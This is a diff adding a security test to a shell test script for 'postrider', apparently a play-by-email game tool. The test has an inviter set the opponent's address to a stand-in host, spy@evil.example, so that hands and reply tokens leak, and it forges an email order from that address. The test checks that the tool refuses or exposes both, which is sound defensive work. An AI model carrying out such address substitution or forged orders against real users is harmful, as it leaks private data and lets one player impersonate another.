@@ -150,6 +150,51 @@ else
 		"peer join said: $(tr '\n' ' ' <"$TRASH/ev.out")"
 fi
 
+# --- the inviter's own address for the British (6.1, 8.4, 8.5) ------------------------
+# The American writes the invitation with his own mailbox as the British's
+# address and forwards it to Bob, who joins. Bob's postrider then writes
+# Bob's reports (his hand, the legal orders, the reply token) to that
+# address, and takes orders from it.
+postrider peer new "$TRASH/sp-a" --me american --american "$AMERICAN" \
+	--british "Bob <spy@evil.example>" --secret "$SA" >/dev/null 2>&1 || die "peer new (spy)"
+postrider peer join "$TRASH/sp-b" --secret "$SB" "$(ls "$(outbox "$TRASH/sp-a")/new/"*-peer-*)" \
+	>"$TRASH/sp.out" 2>&1
+_rc=$?
+if [ $_rc -ne 0 ] || grep -q "spy@evil.example" "$TRASH/sp.out"; then
+	ok "peer join refuses, or shows the joiner the address his copy will write to"
+else
+	fail "peer join refuses, or shows the joiner the address his copy will write to" \
+		"ATTACK SUCCEEDS: the invitation names spy@evil.example as the British's address; 'peer join' takes it and says only where the join goes" \
+		"peer join said: $(tr '\n' ' ' <"$TRASH/sp.out")"
+fi
+if [ -e "$TRASH/sp-b/game.yaml" ]; then
+	postrider play "$TRASH/sp-a" "$(ls "$(outbox "$TRASH/sp-b")/new/"*-peer-*)" >/dev/null 2>&1
+	"$PY" tests/e2e/peer-driver.py "$TRASH/sp-a" "$TRASH/sp-b" 3 16 >/dev/null 2>&1
+	# the newest report: the one whose token is due
+	_rep=$(ls -t "$(outbox "$TRASH/sp-b")/new/"*-report-* 2>/dev/null | head -n 1)
+	grep -q "^To: .*spy@evil.example" "$_rep" 2>/dev/null || _rep=
+	if [ -n "$_rep" ] && grep -q "^Your hand" "$_rep"; then
+		fail "the British's reports (his hand) go only to the British" \
+			"ATTACK SUCCEEDS: the British's postrider mails his hand and reply token to the address the inviter chose: $(grep -m1 '^To:' "$_rep")"
+	else
+		ok "the British's reports (his hand) go only to the British"
+	fi
+	if [ -n "$_rep" ] && [ "$(postrider peer status "$TRASH/sp-b" | sed -n 's/^waits: //p')" = "british decision" ]; then
+		_subj=$(sed -n 's/^Subject: //p' "$_rep" | head -n 1)
+		_order=$(postrider options "$TRASH/sp-b" --plain | sed -n 2p)
+		printf 'From: Mallory <spy@evil.example>\nTo: Bob <bob@example.org>\nSubject: Re: %s\nMessage-ID: <m1@evil.example>\n\n%s\n' \
+			"$_subj" "$_order" >"$TRASH/spy-order.eml"
+		_head=$(git -C "$TRASH/sp-b" rev-parse HEAD)
+		postrider play "$TRASH/sp-b" "$TRASH/spy-order.eml" >"$TRASH/spy.out" 2>&1
+		if [ "$(git -C "$TRASH/sp-b" rev-parse HEAD)" = "$_head" ]; then
+			ok "an order mailed by the inviter's spy address is not the British's"
+		else
+			fail "an order mailed by the inviter's spy address is not the British's" \
+				"ATTACK SUCCEEDS: with the token of the leaked report, the American plays the British's order '$_order' from spy@evil.example: $(tr '\n' ' ' <"$TRASH/spy.out")"
+		fi
+	fi
+fi
+
 # --- nothing the American sees depends on the British's secret (10) ------------------
 SB2=5555555555555555555555555555555555555555555555555555555555555555
 for g in 1 2; do
